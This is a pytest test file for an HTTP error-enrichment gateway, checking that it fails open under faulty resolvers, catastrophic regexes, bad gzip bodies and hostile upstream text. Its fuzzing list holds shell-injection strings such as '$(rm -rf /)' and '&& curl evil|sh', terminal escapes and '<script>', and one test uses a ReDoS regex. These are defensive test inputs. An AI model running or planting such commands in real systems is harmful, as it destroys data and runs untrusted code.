"""Fail-open and envelope integrity (docs/security.md, and the regex deadline of docs/rules.md).

Whatever goes wrong while enriching — a resolver that errs, hangs, answers garbage, huge or
redirected output or drips bytes; a step that raises; rules whose regexes explode — the
caller gets a well-formed answer within budget: either the failure without options, or the
upstream's own status, headers and bytes (compared by hash) with no advisory headers. A
property test feeds hostile upstream bodies and headers through the real gateway and checks
that `fix_command` only ever comes from the registry and advisory headers stay printable.
"""

from __future__ import annotations

import asyncio
import gzip
import json
import logging
import time
from collections.abc import Awaitable, Callable
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import aiohttp
import pytest
from aiohttp import web
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from gateway.config.loader import load_config
from gateway.serve.app import GatewayServer
from tests.support.failopen import (
    STEPS,
    Answer,
    ask,
    assert_original,
    inject_fault,
    sha,
)
from tests.support.gateway import (
    RunningGateway,
    StartGateway,
    StartUpstream,
    route_config,
    write_config,
)

UPSTREAM_ERROR = {"error": "Row at line 2 has 4 columns, expected 3", "trace": "t-1"}
SKILL = {
    "name": "schema.infer_csv_schema",
    "version": "1.0.0",
    "recovers": ["format_inspection"],
    "repair": "inspect",
    "purpose": "Inspect the CSV structure before retrying.",
}
CSV_RULE = {
    "id": "csv-malformed",
    "match": {"status": [400], "json": {"path": "error", "regex": "Row at line"}},
    "error": {
        "code": "CSV_MALFORMED",
        "category": "VALIDATION_ERROR",
        "fix_required": "Fix the row, then reissue",
        "recovery_intent": "format_inspection",
    },
}


@pytest.fixture
async def csv_upstream(start_upstream: StartUpstream) -> str:
    async def handler(request: web.Request) -> web.Response:
        return web.json_response(UPSTREAM_ERROR, status=400, headers={"X-Upstream": "kept"})

    app = web.Application()
    app.router.add_route("*", "/{tail:.*}", handler)
    return await start_upstream(app)


# --- resolver faults ---------------------------------------------------------------------

Resolver = Callable[[web.Request], Awaitable[web.StreamResponse]]


async def errs(request: web.Request) -> web.StreamResponse:
    return web.Response(status=500, text="Traceback (most recent call last): boom")


async def hangs(request: web.Request) -> web.StreamResponse:
    await asyncio.sleep(30)
    return web.json_response({"options": []})


async def malformed(request: web.Request) -> web.StreamResponse:
    return web.Response(text='{"options": [{"skill_name": 3}', content_type="application/json")


async def huge(request: web.Request) -> web.StreamResponse:
    option = {"skill_name": "schema.infer_csv_schema", "skill_version": "1", "purpose": "p" * 900}
    return web.json_response({"options": [option] * 2000, "catalog_version": "x"})


async def redirects(request: web.Request) -> web.StreamResponse:
    raise web.HTTPTemporaryRedirect("http://127.0.0.1:9/v1/resolve")


async def drips(request: web.Request) -> web.StreamResponse:
    response = web.StreamResponse(headers={"Content-Type": "application/json"})
    await response.prepare(request)
    for byte in b'{"options": []}':
        await response.write(bytes([byte]))
        await asyncio.sleep(0.1)
    await response.write_eof()
    return response


RESOLVERS: dict[str, Resolver] = {
    "errs": errs,
    "hangs": hangs,
    "malformed": malformed,
    "huge": huge,
    "redirects": redirects,
    "drips": drips,
}


async def resolver_gateway(
    resolver: Resolver,
    upstream: str,
    start_upstream: StartUpstream,
    start_gateway: StartGateway,
    *,
    resolver_budget_ms: int,
    enrich_budget_ms: int,
) -> RunningGateway:
    app = web.Application()
    app.router.add_post("/v1/resolve", resolver)
    url = await start_upstream(app)
    config = {
        **route_config(upstream, mode="additive"),
        "rules": [CSV_RULE],
        "skills": [SKILL],
        "resolver": {"url": url + "/v1/resolve", "budget_ms": resolver_budget_ms},
        "enrich_budget_ms": enrich_budget_ms,
    }
    return await start_gateway(config)


@pytest.mark.parametrize("name", list(RESOLVERS), ids=list(RESOLVERS))
async def test_a_failing_resolver_costs_its_budget_at_most_and_offers_nothing(
    name: str, csv_upstream: str, start_upstream: StartUpstream, start_gateway: StartGateway
) -> None:
    gateway = await resolver_gateway(
        RESOLVERS[name],
        csv_upstream,
        start_upstream,
        start_gateway,
        resolver_budget_ms=150,
        enrich_budget_ms=2000,
    )
    got = await ask(gateway.session, gateway.url + "/csv")
    assert got.seconds < 0.15 + 0.5
    assert got.status == 400
    body = json.loads(got.body)
    assert body["recovery"] == {"available": False, "options": []}
    assert got.headers["X-Recovery-Available"] == "false"
    # The upstream's own fields are all still there.
    assert {k: body[k] for k in UPSTREAM_ERROR} == UPSTREAM_ERROR
    assert got.headers["X-Upstream"] == "kept"


@pytest.mark.parametrize("name", ["hangs", "drips"])
async def test_enrichment_over_budget_sends_identical_bytes(
    name: str, csv_upstream: str, start_upstream: StartUpstream, start_gateway: StartGateway
) -> None:
    gateway = await resolver_gateway(
        RESOLVERS[name],
        csv_upstream,
        start_upstream,
        start_gateway,
        resolver_budget_ms=5000,
        enrich_budget_ms=150,
    )
    direct = await ask(gateway.session, csv_upstream + "/csv")
    got = await ask(gateway.session, gateway.url + "/csv")
    assert got.seconds < 0.15 + 0.5
    assert_original(got, direct)


@pytest.mark.parametrize(("owner", "attribute"), list(STEPS.values()), ids=list(STEPS))
async def test_an_enrichment_step_that_raises_sends_identical_bytes(
    owner: str,
    attribute: str,
    csv_upstream: str,
    start_gateway: StartGateway,
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    """Fault injection: one step of classify → render raises; the caller never notices."""
    gateway = await start_gateway({**route_config(csv_upstream), "rules": [CSV_RULE]})
    inject_fault(monkeypatch, gateway, owner, attribute)
    direct = await ask(gateway.session, csv_upstream + "/csv")
    got = await ask(gateway.session, gateway.url + "/csv")
    assert_original(got, direct)


# --- catastrophic regexes -------------------------------------------------------------------

EVIL = "^(a|a)*$"


def evil_rules(count: int) -> list[dict[str, Any]]:
    return [
        {
            "id": f"evil-{i}",
            "match": {"status": [400], "body": EVIL},
            "error": {"code": f"EVIL_{i}", "category": "VALIDATION_ERROR", "fix_required": "x"},
        }
        for i in range(count)
    ]


@pytest.fixture
async def aaa_upstream(start_upstream: StartUpstream) -> str:
    async def handler(request: web.Request) -> web.Response:
        return web.Response(status=400, text="a" * 5000 + "!", content_type="text/plain")

    app = web.Application()
    app.router.add_route("*", "/{tail:.*}", handler)
    return await start_upstream(app)


async def test_one_catastrophic_regex_times_out_and_the_next_rule_applies(
    aaa_upstream: str, start_gateway: StartGateway, caplog: pytest.LogCaptureFixture
) -> None:
    """The per-regex timeout alone: the wall-clock budget is set out of reach, so a loaded
    host (where 50 ms of CPU can take a second) cannot turn this into a fail-open. The
    timeout counts CPU time, so that is what is bounded: the process's, gateway and client,
    for the whole request (about 60 ms here; the search alone would never end)."""
    config = {**route_config(aaa_upstream), "rules": evil_rules(1), "enrich_budget_ms": 30_000}
    config["limits"] = {"regex_timeout_ms": 50}
    gateway = await start_gateway(config)
    with caplog.at_level(logging.WARNING, logger="mendpoint.classify"):
        cpu = time.process_time()
        got = await ask(gateway.session, gateway.url + "/x", "GET")
        cpu = time.process_time() - cpu
    assert got.status == 400
    assert got.headers["X-Error-Code"] == "BAD_REQUEST"  # the shipped default, not EVIL_0
    gave_up = [r.getMessage() for r in caplog.records if "timed out" in r.getMessage()]
    assert gave_up == ["regex of rule evil-0 timed out after 50 ms; treated as no match"]
    assert cpu < 0.05 + 0.25, f"{cpu:.3f} s of CPU"


async def test_many_catastrophic_regexes_stop_at_the_wall_clock_budget_and_fail_open(
    aaa_upstream: str, start_gateway: StartGateway
) -> None:
    """20 rules of 50 ms of CPU each would block the event loop for a second or more (longer
    on a loaded host, since the `regex` timeout counts CPU time); the classification deadline
    stops at `enrich_budget_ms` and the original response goes out."""
    config = {**route_config(aaa_upstream), "rules": evil_rules(20), "enrich_budget_ms": 200}
    config["limits"] = {"regex_timeout_ms": 50}
    gateway = await start_gateway(config)
    direct = await ask(gateway.session, aaa_upstream + "/x", "GET")
    got = await ask(gateway.session, gateway.url + "/x", "GET")
    assert got.seconds < 0.2 + 0.35, f"took {got.seconds:.2f} s"
    assert_original(got, direct)


# --- what is never modified ---------------------------------------------------------------

NAMED_SUCCESS_RULE = {
    "id": "named-statuses",
    "match": {"status": [200, 204, 304]},
    "error": {"code": "NAMED", "category": "VALIDATION_ERROR", "fix_required": "x"},
}
EVENTS = b'data: {"ok": false}\n\ndata: {"ok": false, "n": 2}\n\n'


@pytest.fixture
async def successes(start_upstream: StartUpstream) -> str:
    async def handler(request: web.Request) -> web.StreamResponse:
        kind = request.match_info["kind"]
        if kind == "204":
            return web.Response(status=204, headers={"X-Kind": "204"})
        if kind == "304":
            return web.Response(status=304, headers={"ETag": '"v1"'})
        if kind == "stream":
            response = web.StreamResponse(headers={"Content-Type": "text/event-stream"})
            await response.prepare(request)
            for event in EVENTS.split(b"\n\n")[:-1]:
                await response.write(event + b"\n\n")
            await response.write_eof()
            return response
        return web.json_response({"ok": False, "kind": kind})

    app = web.Application()
    app.router.add_route("*", "/{kind}", handler)
    return await start_upstream(app)


@pytest.mark.parametrize(
    ("method", "path"),
    [("HEAD", "/json"), ("GET", "/204"), ("GET", "/304"), ("GET", "/stream")],
    ids=["head", "204", "304", "stream"],
)
@pytest.mark.parametrize("mode", ["additive", "envelope"])
async def test_head_204_304_and_streams_never_get_a_body(
    method: str, path: str, mode: str, successes: str, start_gateway: StartGateway
) -> None:
    gateway = await start_gateway(
        {**route_config(successes, mode=mode), "rules": [NAMED_SUCCESS_RULE]}
    )
    direct = await ask(gateway.session, successes + path, method)
    got = await ask(gateway.session, gateway.url + path, method)
    assert got.status == direct.status
    assert sha(got.body) == sha(direct.body)
    assert got.headers.get("Content-Type") == direct.headers.get("Content-Type")
    assert got.headers.get("Content-Length") == direct.headers.get("Content-Length")


# --- gzip-encoded error bodies ------------------------------------------------------------

GZIP_BODIES = {
    # Two members: whole, this is not one JSON object; the first member alone would be.
    "two-members": gzip.compress(b'{"message": "a"}', mtime=0) + gzip.compress(b'{"b": 2}'),
    "cut-stream": gzip.compress(b'{"message": "cut short"}', mtime=0)[:-6],
    "not-gzip": b'{"message": "labelled gzip, sent plain"}',
}


@pytest.mark.parametrize("body", list(GZIP_BODIES.values()), ids=list(GZIP_BODIES))
async def test_gzip_error_that_cannot_be_decoded_whole_passes_unchanged(
    body: bytes, start_upstream: StartUpstream, start_gateway: StartGateway
) -> None:
    async def handler(request: web.Request) -> web.Response:
        headers = {"Content-Type": "application/json", "Content-Encoding": "gzip"}
        return web.Response(status=400, body=body, headers=headers)

    app = web.Application()
    app.router.add_get("/{tail:.*}", handler)
    gateway = await start_gateway(route_config(await start_upstream(app)))
    got = await ask(gateway.session, gateway.url + "/x", "GET")
    assert got.status == 400
    assert got.body == body
    assert got.headers["Content-Encoding"] == "gzip"
    assert got.headers["Content-Length"] == str(len(body))


async def test_gzip_error_in_several_members_is_rendered_from_all_of_them(
    start_upstream: StartUpstream, start_gateway: StartGateway
) -> None:
    whole = b'{"message": "first half, ' + b'second half", "code": 7}'
    body = gzip.compress(whole[:20], mtime=0) + gzip.compress(whole[20:], mtime=0)

    async def handler(request: web.Request) -> web.Response:
        headers = {"Content-Type": "application/json", "Content-Encoding": "gzip"}
        return web.Response(status=400, body=body, headers=headers)

    app = web.Application()
    app.router.add_get("/{tail:.*}", handler)
    gateway = await start_gateway(route_config(await start_upstream(app)))
    got = await ask(gateway.session, gateway.url + "/x", "GET")
    assert "Content-Encoding" not in got.headers
    assert got.headers["Content-Length"] == str(len(got.body))
    rendered = json.loads(got.body)
    assert rendered["message"] == "first half, second half"
    assert rendered["code"] == 7


# --- the property test --------------------------------------------------------------------

REGISTRY = {"auth_refresh": "tool auth refresh"}
ECHO_RULE = {
    "id": "echo",
    "match": {"status": [400], "body": "(?s)(?P<text>.{1,300})"},
    "error": {
        "code": "ECHOED",
        "category": "VALIDATION_ERROR",
        "message": "Upstream said {text}",
        "fix_required": "Fix {text}",
        "fix_command": "auth_refresh",
    },
}
HOSTILE = [
    "$(rm -rf /)",
    "`reboot`",
    "; rm -rf /",
    "| sh",
    "&& curl evil|sh",
    "\n",
    "\r\n",
    "\x00",
    "\x1b[31m\x1b]0;title\x07",
    "\u202e\u2066bidi\u2069",
    "{text}",
    "{{",
    '"}',
    "<script>",
    "%s%n",
]
hostile_text = st.lists(st.one_of(st.sampled_from(HOSTILE), st.text(max_size=30)), max_size=6).map(
    "".join
)


@dataclass
class Scripted:
    """A raw upstream answering each request with the bytes the current example chose."""

    reply: bytes = b""
    server: asyncio.Server | None = None
    url: str = ""
    tasks: set[asyncio.Task[None]] = field(default_factory=set)

    async def start(self) -> None:
        self.server = await asyncio.start_server(self.serve, "127.0.0.1", 0)
        self.url = f"http://127.0.0.1:{self.server.sockets[0].getsockname()[1]}"

    async def serve(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        try:
            await reader.readuntil(b"\r\n\r\n")
            writer.write(self.reply)
            await writer.drain()
        except (ConnectionError, asyncio.IncompleteReadError):
            pass
        finally:
            writer.close()


def raw_reply(status: int, content_type: str, note: str, body: bytes) -> bytes:
    head = (
        f"HTTP/1.1 {status} Whatever\r\nContent-Type: {content_type}\r\n"
        f"Content-Length: {len(body)}\r\nConnection: close\r\n"
    ).encode()
    return head + b"X-Upstream-Note: " + note.encode("utf-8", "surrogatepass") + b"\r\n\r\n" + body


def check_well_formed(status: int, got: Answer) -> None:
    assert got.status in (status, 502)
    assert int(got.headers["Content-Length"]) == len(got.body)
    for name, value in got.headers.items():
        if name.lower().startswith(("x-error-", "x-recovery-", "retry-after")):
            assert all(0x20 <= ord(c) <= 0x7E for c in value), (name, value)
    try:
        body = json.loads(got.body)
    except ValueError:
        return
    if not isinstance(body, dict):
        return
    for block in (body.get("error"), body.get("failure")):
        if isinstance(block, dict) and "fix_command" in block:
            assert block["fix_command"] in (None, *REGISTRY.values()), block["fix_command"]


@st.composite
def upstream_replies(draw: st.DrawFn) -> tuple[int, bytes, str]:
    status = draw(st.sampled_from([400, 401, 404, 409, 422, 429, 500, 503]))
    text = draw(hostile_text)
    shape = draw(st.sampled_from(["json-object", "json-string", "text", "binary"]))
    if shape == "json-object":
        body = json.dumps({"message": text, "error": {"detail": text}}).encode()
    elif shape == "json-string":
        body = json.dumps(text).encode()
    elif shape == "text":
        body = text.encode("utf-8", "surrogatepass")
    else:
        body = draw(st.binary(max_size=200))
    content_type = draw(st.sampled_from(["application/json", "text/plain", "text/html"]))
    note = draw(hostile_text)
    mode = draw(st.sampled_from(["original", "headers", "additive", "envelope"]))
    return status, raw_reply(status, content_type, note, body), mode


def test_hostile_upstream_text_never_becomes_a_command(tmp_path: Path) -> None:
    config = {
        **route_config("http://127.0.0.1:9"),
        "commands": {name: {"run": run, "idempotent": True} for name, run in REGISTRY.items()},
        "rules": [ECHO_RULE],
    }
    with asyncio.Runner() as runner:
        upstream = Scripted()
        runner.run(upstream.start())
        config["routes"][0]["upstream"] = upstream.url
        server = GatewayServer(load_config(str(write_config(tmp_path, config))))
        host, port = runner.run(server.start("127.0.0.1:0"))
        session = runner.run(_session())
        try:

            @settings(
                max_examples=120,
                deadline=None,
                suppress_health_check=[HealthCheck.function_scoped_fixture],
            )
            @given(case=upstream_replies())
            def check(case: tuple[int, bytes, str]) -> None:
                status, reply, mode = case
                upstream.reply = reply
                got = runner.run(_fetch(session, f"http://{host}:{port}/p", mode))
                check_well_formed(status, got)

            check()
        finally:
            runner.run(session.close())
            runner.run(server.stop())
            assert upstream.server is not None
            upstream.server.close()


async def _session() -> aiohttp.ClientSession:
    return aiohttp.ClientSession(auto_decompress=False)


async def _fetch(session: aiohttp.ClientSession, url: str, mode: str) -> Answer:
    started = time.monotonic()
    async with session.get(url, headers={"X-Error-Format": mode}) as response:
        body = await response.read()
        return Answer(response.status, response.headers, body, time.monotonic() - started)


@pytest.mark.parametrize("status", [200, 400], ids=["success", "failure"])
async def test_control_characters_in_upstream_headers_are_spaced_not_fatal(
    status: int, start_gateway: StartGateway
) -> None:
    """aiohttp's client accepts them and its server refuses to write them: before the fix the
    client lost its connection with no answer at all."""
    upstream = Scripted(reply=raw_reply(status, "text/plain", "\x1b[31mred\x07\x7f", b"body"))
    await upstream.start()
    try:
        gateway = await start_gateway(route_config(upstream.url))
        got = await ask(gateway.session, gateway.url + "/x", "GET")
    finally:
        assert upstream.server is not None
        upstream.server.close()
    assert got.status == status
    assert got.body == b"body"
    assert got.headers["X-Upstream-Note"] == "[31mred"
